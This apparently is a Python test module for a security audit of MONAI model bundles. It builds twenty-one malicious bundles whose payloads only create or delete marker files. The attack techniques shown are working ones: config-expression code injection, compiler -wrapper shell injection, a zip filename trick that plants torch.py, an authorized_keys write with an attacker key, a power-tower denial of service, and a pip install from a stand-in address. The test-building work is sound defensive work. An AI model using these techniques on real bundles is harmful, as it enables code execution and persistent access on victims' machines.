"""Attacks written with the verdicts of the audit at hand, but not its source: each plants one trick in a fresh bundle.

A function takes the bundle's folder and returns what is to be audited, the folder or a zip made of it. A payload does
no more than make, overwrite or remove files named OWNED_NN beside the bundle's folder; 06 and 09 also put a module into
the folder itself. VERBS says what a victim would run in the folder, where it is not INFER.
"""

from __future__ import annotations

import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import torch

INFER = "python -m monai.bundle run inferring --config_file configs/inference.json --dataset_dir DATA"


def _marker(bundle: Path, number: str) -> str:
    return str(bundle.resolve().parent / f"OWNED_{number}")


def _edit(bundle: Path, change: Callable[[dict], object], name: str = "inference.json") -> None:
    path = bundle / "configs" / name
    config = json.loads(path.read_text(encoding="utf-8"))
    change(config)
    path.write_text(json.dumps(config, indent=2), encoding="utf-8")


def _first(bundle: Path, expression: str, **ids: object) -> None:
    """Add ids to the inference config, and an expression that is evaluated before anything else."""

    def change(config: dict) -> None:
        config.update(ids)
        config["initialize"].insert(0, expression)

    _edit(bundle, change)


def _note(bundle: Path, text: str) -> None:
    (bundle / "docs").mkdir(exist_ok=True)
    (bundle / "docs" / "notes.txt").write_text(text, encoding="utf-8")


def attack_01_reference_makes_an_f_string(bundle: Path) -> Path:
    """A reference at the head of a string closes its quotes and makes an f-string of the rest: '@f {code}'."""
    code = f'__import__("os").system("touch {_marker(bundle, "01")}")'
    _first(bundle, f"$'@f {{{code}}}'", f=0)
    return bundle


def attack_02_module_in_metadata(bundle: Path) -> Path:
    """metadata.json imports os, and the config moves a file out of the bundle by @_meta_::tool.replace."""
    _note(bundle, "any content, to any place\n")
    _edit(bundle, lambda meta: meta.update(tool="$import os"), "metadata.json")
    _first(bundle, f"$@_meta_::tool.replace('docs/notes.txt', '{_marker(bundle, '02')}')")
    return bundle


def _compile_kwargs(bundle: Path, number: str) -> dict:
    wrapper = f"sh,-c,touch$IFS{_marker(bundle, number)}"
    return {"options": {"cpp.march": f"native -wrapper {wrapper}"}}


def attack_03_compiler_flags_of_the_evaluator(bundle: Path) -> Path:
    """compile_kwargs of SupervisedEvaluator set Inductor's cpp.march, which adds -wrapper to the call of g++."""
    _edit(bundle, lambda c: c["evaluator"].update(compile=True, compile_kwargs=_compile_kwargs(bundle, "03")))
    return bundle


def attack_04_to_kwargs_hides_the_reader(bundle: Path) -> Path:
    """to_kwargs spreads a dictionary into LoadImage, whose reader is the dotted name of any callable."""
    arguments = f"{{'reader': 'subprocess.getoutput', 'cmd': 'touch {_marker(bundle, '04')}'}}"
    _first(bundle, f"$monai.transforms.to_kwargs(monai.transforms.LoadImage)({arguments})")
    return bundle


def attack_05_data_of_a_dataset_is_the_reader(bundle: Path) -> Path:
    """DatasetFunc calls LoadImage with its data as the first argument, which is the reader, and passes cmd on to it."""
    dataset = {
        "_target_": "monai.data.DatasetFunc",
        "data": "subprocess.getoutput",
        "func": "$monai.transforms.LoadImage",
        "cmd": f"touch {_marker(bundle, '05')}",
    }
    _first(bundle, "$@loader", loader=dataset)
    return bundle


def attack_06_module_as_argument(bundle: Path) -> Path:
    """A component of initialize has $import os as an argument, by which a lambda renames a text to pynvml.py."""
    _note(bundle, f"open({_marker(bundle, '06')!r}, 'w')\n")
    move = {
        "_target_": "monai.data.DatasetFunc",
        "data": "$import os",
        "func": "$lambda tool: tool.replace('docs/notes.txt', 'pynvml.py')",
    }
    # ignite imports pynvml only now, from the folder that the bundle is started in
    _edit(bundle, lambda c: c.update(initialize=[move, {"_target_": "ignite.metrics.GpuInfo"}, *c["initialize"]]))
    return bundle


def attack_07_log_file_of_keys(bundle: Path) -> Path:
    """LogfileHandler appends a line of the config's choice to a file named authorized_keys in any folder."""
    handler = {
        "_target_": "LogfileHandler",
        "output_dir": _marker(bundle, "07") + "/.ssh",
        "filename": "authorized_keys",
        "formatter": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallory %(name)s",
    }
    _edit(bundle, lambda c: c["handlers"].append(handler))
    # so that the engine has lines to log
    path = bundle / "configs" / "logging.conf"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("[logger_engine]\nlevel=WARNING", "[logger_engine]\nlevel=INFO"), encoding="utf-8")
    return bundle


def attack_08_interpolation_in_the_logging_file(bundle: Path) -> Path:
    """logging.conf holds a literal that becomes code once %(x)s is interpolated, after MONAI's own check of it."""
    path = bundle / "configs" / "logging.conf"
    code = f"'}} if __import__('os').system('touch {_marker(bundle, '08')}') else {{'a': '"
    text = path.read_text(encoding="utf-8")
    arguments = "args=(sys.stderr,)"
    path.write_text(text.replace(arguments, f"{arguments}\nx={code}\nkwargs={{'a': '%(x)s'}}"), encoding="utf-8")
    return bundle


def attack_09_second_name_in_the_zip(bundle: Path) -> Path:
    """In the zip a text has a Unicode Path field by which unzip, but not Python, writes it as torch.py."""
    target = bundle.with_suffix(".zip")
    name, other = f"{bundle.name}/docs/notes.txt", f"{bundle.name}/torch.py".encode()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(bundle.rglob("*")):
            if path.is_file():
                archive.write(path, f"{bundle.name}/{path.relative_to(bundle).as_posix()}")
        note = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
        note.external_attr = 0o644 << 16
        note.extra = struct.pack("<HHBI", 0x7075, 5 + len(other), 1, zlib.crc32(name.encode())) + other
        archive.writestr(note, f"open({_marker(bundle, '09')!r}, 'w')\n")
    return target


class _Writer(torch.nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def forward(self, image: torch.Tensor) -> torch.Tensor:
        torch.save(image, self.path)
        return image


def attack_10_torchscript_that_saves(bundle: Path) -> Path:
    """models/model.ts calls aten::save when the network is run, on a path that is one of its attributes."""
    torch.jit.save(torch.jit.script(_Writer(_marker(bundle, "10"))), str(bundle / "models" / "model.ts"))
    return bundle


def attack_11_export_to_elsewhere(bundle: Path) -> Path:
    """The arguments file of onnx_export names a file outside the bundle, which the documented command overwrites."""
    path = bundle / "configs" / "onnx_export.yaml"
    lines = path.read_text(encoding="utf-8").splitlines()
    lines = [f"filepath: {_marker(bundle, '11')}" if line.startswith("filepath:") else line for line in lines]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return bundle


def attack_12_disk_saver_removes(bundle: Path) -> Path:
    """remove of ignite's DiskSaver takes an absolute path and deletes that file; OWNED_12 is gone afterwards."""
    Path(_marker(bundle, "12")).write_text("a file of the victim\n", encoding="utf-8")
    saver = {"_target_": "ignite.handlers.DiskSaver", "dirname": ".", "require_empty": False}
    _first(bundle, f"$@saver.remove('{_marker(bundle, '12')}')", saver=saver)
    return bundle


def attack_13_weights_of_another_bundle(bundle: Path) -> Path:
    """CheckpointSaver writes its weights over model.pt of any folder, as that of a neighbouring bundle."""
    saver = {
        "_target_": "CheckpointSaver",
        "save_dir": _marker(bundle, "13"),
        "save_dict": {"model": "@network"},
        "save_final": True,
        "final_filename": "model.pt",
    }
    _edit(bundle, lambda c: c["handlers"].append(saver))
    return bundle


def attack_14_module_through_apply_transform(bundle: Path) -> Path:
    """apply_transform hands $import os to a lambda, which deletes a file; OWNED_14 is gone afterwards."""
    Path(_marker(bundle, "14")).write_text("a file of the victim\n", encoding="utf-8")
    call = {
        "_target_": "monai.transforms.apply_transform",
        "transform": f"$lambda tool: tool.remove('{_marker(bundle, '14')}')",
        "data": "$import os",
    }
    _edit(bundle, lambda c: c["initialize"].insert(0, call))
    return bundle


def attack_15_compiler_flags_in_an_overlay(bundle: Path) -> Path:
    """An overlay in YAML sets compile and compile_kwargs of the evaluator by ids with #."""
    options = json.dumps(_compile_kwargs(bundle, "15"))
    text = f"# Faster on CPUs.\nevaluator#compile: true\nevaluator#compile_kwargs: {options}\n"
    (bundle / "configs" / "fast.yaml").write_text(text, encoding="utf-8")
    return bundle


def attack_16_macro_on_metadata(bundle: Path) -> Path:
    """A macro copies the import from the metadata into the config, whose reference then deletes OWNED_16."""
    Path(_marker(bundle, "16")).write_text("a file of the victim\n", encoding="utf-8")
    _edit(bundle, lambda meta: meta.update(tool="$import os"), "metadata.json")
    _first(bundle, f"$@tool.remove('{_marker(bundle, '16')}')", tool="%_meta_::tool")
    return bundle


def attack_17_module_through_an_engine(bundle: Path) -> Path:
    """run of an Engine, itself a value, takes [$import os] as its data, and the process function deletes OWNED_17."""
    Path(_marker(bundle, "17")).write_text("a file of the victim\n", encoding="utf-8")
    code = f"$lambda engine, batch: batch.remove('{_marker(bundle, '17')}')"
    call = {"_target_": "monai.data.DatasetFunc", "data": ["$import os"], "func": "$@loop.run"}
    loop = {"_target_": "ignite.engine.Engine", "process_function": code}
    _edit(bundle, lambda c: c.update(loop=loop, initialize=[call, *c["initialize"]]))
    return bundle


def attack_18_power_tower(bundle: Path) -> Path:
    """An expression of a few characters computes for hours: 9**9**9."""
    _first(bundle, "$9**9**9 > @batch_size")
    return bundle


def attack_19_whole_metadata_as_a_value(bundle: Path) -> Path:
    """The module is taken out of @_meta_ by a subscript, and OWNED_19 is deleted."""
    Path(_marker(bundle, "19")).write_text("a file of the victim\n", encoding="utf-8")
    _edit(bundle, lambda meta: meta.update(tool="$import os"), "metadata.json")
    _first(bundle, f"$@_meta_['tool'].remove('{_marker(bundle, '19')}')")
    return bundle


def attack_20_package_of_an_environment(bundle: Path) -> Path:
    """environment.yml has pip install a package from an address of the config's choice."""
    text = "name: bundle\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n      - http://127.0.0.1:9/package.zip\n"
    (bundle / "environment.yml").write_text(text, encoding="utf-8")
    return bundle


def attack_21_compiler_flags_by_reference(bundle: Path) -> Path:
    """compile_kwargs is a reference to a dictionary elsewhere in the config, which has Inductor's cpp.march."""

    def change(config: dict) -> None:
        config["speed"] = _compile_kwargs(bundle, "21")
        config["evaluator"].update(compile=True, compile_kwargs="@speed")

    _edit(bundle, change)
    return bundle


VERBS = {
    "09": "unzip and start any python -m monai.bundle in the folder",
    "10": "torch.jit.load('models/model.ts')(torch.zeros(1))",
    "11": "python -m monai.bundle onnx_export --args_file configs/onnx_export.yaml",
    "08": f"{INFER} --logging_file configs/logging.conf",
    "15": INFER.replace("configs/inference.json", "\"['configs/inference.json','configs/fast.yaml']\""),
    "20": "conda env create -f environment.yml",
}
